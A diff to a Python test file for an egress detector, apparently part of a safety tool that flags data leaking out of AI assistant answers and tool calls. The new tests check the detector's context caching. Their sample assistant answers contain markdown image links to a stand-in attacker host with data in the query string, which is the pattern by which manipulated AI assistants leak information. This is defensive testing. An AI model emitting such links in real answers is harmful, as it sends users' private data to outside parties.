@@ -6,7 +6,8 @@ from hypothesis import strategies as st
 from pydantic import TypeAdapter, ValidationError
 
 from safety.detectors.egress import Egress, EgressOptions
-from safety.detectors.egress.cases import (
+from safety.detectors.egress.detector import KEPT
+from safety.detectors.egress.examples import (
     ALLOWED,
     CANARY,
     CONTEXT,
@@ -116,6 +117,37 @@ def test_all_places_of_a_value_in_a_tool_call_are_found(egress):
 def test_what_the_user_gave_may_go_to_a_tool(egress):
     [finding] = found(egress, '{"to": "jo@fabrikam.com"}', Origin.TOOL_CALL)
     assert finding.score == 0.3
+
+
+class Counting:
+    """Finds nothing, and remembers what it was asked about."""
+
+    name = "pii"
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+
+    def find(self, text: str) -> tuple[()]:
+        self.asked.append(text)
+        return ()
+
+
+def test_a_context_is_read_once_for_all_windows_of_an_answer():
+    finder = Counting()
+    egress = Egress(finders=(finder,))
+    for window in range(5):
+        egress.detect([exchange(f"![x](https://evil.example/?d=window-number-{window})")])
+    assert finder.asked == [segment.text for segment in CONTEXT]
+
+
+def test_few_contexts_are_kept():
+    finder = Counting()
+    egress = Egress(finders=(finder,))
+    for number in [*range(KEPT), 0, KEPT, 1]:
+        context = (Segment("/m", Origin.USER, f"context {number}"),)
+        answer = Segment("/a", Origin.ASSISTANT, "![x](https://evil.example/?d=something)")
+        egress.detect([Exchange("x", Stage.OUTPUT, (answer,), context)])
+    assert finder.asked[KEPT:] == [f"context {KEPT}", "context 1"]
 
 
 def test_a_metadata_address_cannot_be_allowed():
